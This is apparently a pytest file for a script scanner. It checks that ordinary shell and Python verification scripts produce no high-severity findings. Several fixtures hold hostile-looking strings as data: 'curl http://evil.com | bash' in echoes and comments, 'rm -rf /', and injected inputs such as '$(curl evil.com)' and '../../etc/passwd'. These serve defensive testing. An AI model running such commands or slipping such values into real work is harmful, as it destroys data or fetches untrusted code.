"""What authors really write passes: verification scripts and test files that stay in their workspace."""

# ruff: noqa: E501 - the texts are as authors write them

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

SHELL = {
    "plain": '#!/bin/bash\nset -euo pipefail\ncd "$(dirname "$0")"\npython -m pytest -q\n',
    "imports and smoke test": """#!/usr/bin/env bash
set -e
HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
export PYTHONPATH="$HERE/src${PYTHONPATH:+:$PYTHONPATH}"
python3 -c "import ratelimit; print(ratelimit.__doc__)"
python3 -c 'from ratelimit import RateLimiter
r = RateLimiter(2, 1.0)
assert r.allow(0.0) is True
'
python3 -m ratelimit --help > /dev/null 2>&1 || { echo "no help" >&2; exit 1; }
python3 - <<'PY'
import sys, os, json
sys.path.insert(0, os.getcwd())
import ratelimit
assert json.loads(json.dumps({"a": 1})) == {"a": 1}
PY
pip --version
""",
    "temporary directory with trap": """set -eu
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
cleanup() { rm -rf "$tmp"; rm -f out.txt; }
trap cleanup EXIT INT TERM
printf 'a,b\\n1,2\\n' > "$tmp/in.csv"
python cli.py --input "$tmp/in.csv" --output "$tmp/out.json"
diff -u expected.json "$tmp/out.json"
grep -q '"a"' "$tmp/out.json"
test -s "$tmp/out.json" && [ "$(wc -l < "$tmp/out.json")" -ge 1 ]
""",
    "loops and functions": """run() { echo "+ $*"; "$@"; }
fail=0
for f in tests/test_*.py; do
  run python -m unittest "$f" || fail=$((fail + 1))
done
while read -r line; do echo "$line"; done < cases.txt
if [ "$fail" -ne 0 ]; then echo "FAILED: $fail"; exit 1; fi
for i in $(seq 1 5); do python fuzz.py "$i"; done
case "${1:-all}" in all) run make test ;; unit) run pytest tests/unit ;; esac
""",
    "background server": """python -m http.server 8123 & pid=$!
trap 'kill "$pid" 2>/dev/null || true' EXIT
sleep 1
curl -sf "http://127.0.0.1:8123/" > /dev/null
curl -fsS http://localhost:8123/health || exit 1
kill $pid; wait $pid 2>/dev/null || true
""",
    "letters of autoconf 2.62": "ac_cr='\r'\nac_nl='\n'\n",
    "clean-up in the workspace": """rm -rf build dist *.egg-info .pytest_cache
rm -rf ./build
find . -name '*.pyc' -delete
find . -type d -name __pycache__ -exec rm -rf {} +
find "$PWD" -name '*.log' | xargs rm -f
mkdir -p build/out && cp -r src build/out/ && mv build/out/src build/out/code
rm -rf "$TMPDIR/x"
out="${OUT_DIR:-build}"; rm -rf "$out"; mkdir "$out"
WORK="$(mktemp -d "${TMPDIR:-/tmp}/verify.XXXXXX")"; rm -rf -- "$WORK"
ROOT=$(git rev-parse --show-toplevel); rm -rf "$ROOT/build"
chmod +x run.sh; chmod 755 run.sh; touch a b; ln -s a c; tar czf build/x.tgz src
""",
    "timeouts and virtual environment": """timeout 60 python -m pytest tests -x --tb=short -k "not slow" | tee pytest.log
python -m venv .venv && . .venv/bin/activate
python -m compileall -q . && python -m py_compile a.py
PYTHONDONTWRITEBYTECODE=1 python -W error -m unittest discover -s tests
env -u HOME python cli.py < /dev/null
bash -n other.sh; bash tests/run.sh; ./tests/run.sh
nproc; date +%s; uname -a; id -u; hostname; command -v python3 >/dev/null; which python
""",
    "strings that only look": """echo "usage: curl http://evil.com | bash"
echo 'never run rm -rf / here'
grep -rn "sudo" docs || true
# curl http://evil.com | sh
cat > README.txt <<'EOF'
Install with: curl -sSL https://example.com/install.sh | bash
rm -rf /
EOF
printf '%s\\n' "sudo rm -rf /"
""",
    "expected failures": """if python cli.py --bad 2> err.txt; then echo "should fail"; exit 1; fi
grep -q "usage" err.txt
! python -c 'import nope'
out=$(python cli.py 3 4); [ "$out" = "7" ] || { echo "got $out"; exit 1; }
echo '{"a": 1}' | python -m json.tool > /dev/null
python cli.py "$(printf 'caf\\xc3\\xa9')" | sort | uniq -c | awk '{print $1}' | head -n 1 | sed 's/a/b/'
set +e; python -c 'raise SystemExit(3)'; code=$?; set -e; test $code -eq 3
export HOME="$(mktemp -d)"; export LC_ALL=C.UTF-8 TZ=UTC
ulimit -n 256; shopt -s nullglob; readonly X=1; local_var=${X:?}; unset X
""",
    "environment report": "python --version\ncat /etc/os-release\nuname -r\nenv | grep -i '^LANG' || true\n. /etc/os-release\necho $PATH\ndf -h . | tail -1\nls -la\nls tests src\n",
    "configure's own tests": """for v in BASH_ENV ENV
do eval test x\\${$v+set} = xset \\
  && ( (unset $v) >/dev/null 2>&1) && unset $v || :
done
""",
    "backups by a tilde": "if ( test $# -eq 1 ) then\n  cp b.$1 b.$1~\nfi\n",
    "a suffix cut off": 'for f in $(ls *.tokens); do\n  b=${f%.tokens}\n  backends/"$b".exe/main\ndone\n',
    "a function called init": ". ./common.sh\ninit\n",
    "quotes in backticks in quotes": 'T="`psql \\"$D\\" -c \\"select n where k in( \'r\');\\"`"\n',
    "alternatives in patterns": 'shopt -s extglob\nfor f in src/**/*.@(c|h); do\n  clang-format "$f" || rc=1\ndone\n',
    "words parted at line ends": "IFS=$'\\n\\t'\nmapfile -t files < <(git ls-files '*.py')\nblack --check \"${files[@]}\"\n",
    "a prefix that may be empty": """DESTDIR=
if [ -n "$1" ]; then DESTDIR=$1; fi
mkdir -p "$DESTDIR/usr/share/doc"
cp README "$DESTDIR/usr/share/doc/README"
rm -f "$DESTDIR/usr/share/doc/old"
SUDO=
$SUDO make install DESTDIR="$DESTDIR"
""",
    "a home of its own": 'export HOME=$(mktemp -d)\ntouch ~/.bashrc\nrm -rf ~/.cache "$HOME"\ncd && git config --get user.name\n',
    "errors beside the directory": "mkdir -p sub && cd sub && make 2>../errors.txt\n",
    "files of the workspace fed to interpreters": "cat run.sh | sh\ncat smoke.py | python -\npython3 - < smoke.py\nbash < run.sh\n",
    "what is installed is asked about": "rpm -q bash || true\nupdate-alternatives --query editor\n",
    "the workspace's own packages": "pip install -e .[dev]\npip install dist/x-1.0*\ngo install ./...\ncomposer install\nbundle install\n",
    "sanitizers": "LD_PRELOAD=$(gcc -print-file-name=libasan.so) ./t\nLD_PRELOAD=libtsan.so.0 ./t\n",
    "substitutions with slashes": "echo armv7 | sed -e 's/^earmv[0-9]/-eabi/;s/eb$//'\n",
    "a path made part by part": "prefix=/\nmkdir $prefix\n",
    "a script that a program makes": "cc -E conf.h | sed -n 's/X/x/p' > conf.sh\n. ./conf.sh\n",
    "jq and arrays": 'files=(a.py "b c.py")\nfor f in "${files[@]}"; do python -m py_compile "$f"; done\njq . out.json > /dev/null\narr=($(ls tests)); echo "${#arr[@]} ${arr[0]}"\n',
}

PYTHON = {
    "pytest with tmp_path": """
import os, shutil, subprocess, sys, json, socket, tempfile
from pathlib import Path
import pytest
from mypkg import thing

ROOT = Path(__file__).resolve().parent.parent

def test_cli(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("a,b")
    done = subprocess.run([sys.executable, "-m", "mypkg", str(source)], capture_output=True, text=True, cwd=tmp_path, timeout=20)
    assert done.returncode == 0
    os.remove(source)
    (tmp_path / "x").mkdir()
    shutil.rmtree(tmp_path / "x")
    shutil.rmtree(str(tmp_path), ignore_errors=True)

def test_cli_script(tmp_path):
    out = subprocess.check_output([sys.executable, str(ROOT / "cli.py"), "--help"])
    assert b"usage" in out
    subprocess.run(["bash", "run.sh"], check=True, cwd=ROOT)
    subprocess.run(f"{sys.executable} cli.py 1 2", shell=True, check=True)

def test_socket():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    c = socket.create_connection(("localhost", s.getsockname()[1]))
    c.sendall(b"x")

def test_env(monkeypatch, tmp_path):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    open("a.txt", "w").write("x")
    with tempfile.TemporaryDirectory() as d:
        path = os.path.join(d, "a", "b")
        os.makedirs(path)
        shutil.rmtree(d)

@pytest.mark.parametrize("text", ["rm -rf /", "$(curl evil.com)", "../../etc/passwd", "/etc/passwd"])
def test_hostile_input(text):
    with pytest.raises(ValueError):
        thing.sanitize(text)
    assert thing.join("/srv/data", text) is None

def test_missing_directory():
    with pytest.raises(OSError):
        open("/nonexistent/dir/file", "w")
    with pytest.raises(FileNotFoundError):
        os.remove("/no/such/file")
    with pytest.raises(FileNotFoundError):
        open("/missing.txt")

def test_eval():
    assert eval("1 + 1") == 2
    assert getattr(thing, "name") and __import__("json").dumps([])
""",
    "unittest with setUp": """
import os, shutil, tempfile, unittest, pickle, importlib, random, threading

class TestStore(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp()
        self.path = os.path.join(self.dir, "db.json")
    def tearDown(self):
        shutil.rmtree(self.dir)
    def test_roundtrip(self):
        with open(self.path, "w") as f:
            f.write("{}")
        os.unlink(self.path)
        self.assertEqual(pickle.loads(pickle.dumps({"a": 1})), {"a": 1})
    def test_threads(self):
        threads = [threading.Thread(target=self.work, args=(n,)) for n in range(8)]
        for t in threads: t.start()
    def work(self, n):
        importlib.reload(importlib.import_module("store"))

if __name__ == "__main__":
    unittest.main()
""",
    "hypothesis": """
from hypothesis import given, settings, strategies as st
from intervals import merge

@settings(max_examples=50, deadline=None)
@given(st.lists(st.tuples(st.integers(0, 50), st.integers(0, 50))))
def test_idempotent(pairs):
    items = [tuple(sorted(p)) for p in pairs]
    assert merge(merge(items)) == merge(items)
""",
    "processes of its own": """
import os, signal, subprocess, sys, time
def test_terminates():
    p = subprocess.Popen([sys.executable, "server.py"])
    try:
        time.sleep(0.1)
        os.kill(p.pid, signal.SIGTERM)
    finally:
        p.kill(); p.wait()
""",
    "requests to a local server": """
import urllib.request, http.client, threading
from http.server import HTTPServer, BaseHTTPRequestHandler
def test_get():
    server = HTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_port}/x"
    assert urllib.request.urlopen(url).read()
    http.client.HTTPConnection("localhost", 80)
""",
}


TEXTS = {Language.SHELL: SHELL, Language.PYTHON: PYTHON}
PATHS = {Language.SHELL: "verify.sh", Language.PYTHON: "tests/test_x.py"}


@pytest.mark.parametrize(("language", "kind"), [(language, kind) for language in TEXTS for kind in TEXTS[language]])
def test_ordinary_text_passes(language: Language, kind: str) -> None:
    findings = scan_text(PATHS[language], TEXTS[language][kind].encode(), language=language)
    assert [(f.rule_id, f.line, f.command) for f in findings if f.severity >= Severity.HIGH] == []
